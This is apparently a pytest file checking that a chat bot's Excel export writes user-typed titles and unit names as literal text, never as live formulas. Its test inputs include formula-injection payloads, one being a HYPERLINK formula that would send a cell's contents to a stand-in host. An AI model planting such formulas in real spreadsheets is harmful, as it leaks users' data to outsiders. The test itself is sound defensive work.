"""Formula injection: what officers and coordinators type never becomes a live
formula in the exported workbook (read back from the xlsx XML itself)."""

from __future__ import annotations

import re
import zipfile

from openpyxl import Workbook, load_workbook

from handlers.export import append_literal

from .conftest import COORDINATOR

TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"查看原文")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
]


def sheet_xml(path: str) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


async def test_export_writes_user_text_as_literal_text(group):
    await group.say(COORDINATOR, "/添加单位 =1+1 部门")
    await group.register(10050, "=1+1", "赵六")
    for title in TITLES:
        await group.say(10020, f"/报送 {title}\n今年以来，城关镇扎实推进各项工作。{title}")
    assert len(await group.drafts()) == len(TITLES)
    await group.say(10050, "/报送 =1+1工作动态\n正文。")
    group.fake.clear()
    await group.say(COORDINATOR, "/导出 月")
    [params] = [p for action, p in group.fake.calls if action == "upload_group_file"]
    xml = sheet_xml(params["file"])
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the workbook
    wb = load_workbook(params["file"])
    drafts, ranking = wb["稿件"], wb["排名"]
    titles = {c.value: c for c in drafts["C"][1:]}
    for title in TITLES:
        cell = titles[title]
        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited
    units = {c.value: c for c in ranking["B"][1:]}
    assert units["=1+1"].data_type == "s" and units["=1+1"].quotePrefix
    assert not units["城关镇"].quotePrefix  # ordinary text is left as it is
    assert re.search(r'<c r="B\d+" s="\d+" t="inlineStr"><is><t>=1\+1</t>', xml)


def test_tab_and_carriage_return_prefixes_are_literal_too(tmp_path):
    wb = Workbook()
    append_literal(wb.active, ["\t=1+1", "\r=2+2", "正常", 12])
    wb.save(tmp_path / "x.xlsx")
    assert "<f>" not in sheet_xml(str(tmp_path / "x.xlsx"))
    row = load_workbook(tmp_path / "x.xlsx").active[1]
    assert [c.quotePrefix for c in row] == [True, True, False, False]
    assert row[3].data_type == "n"
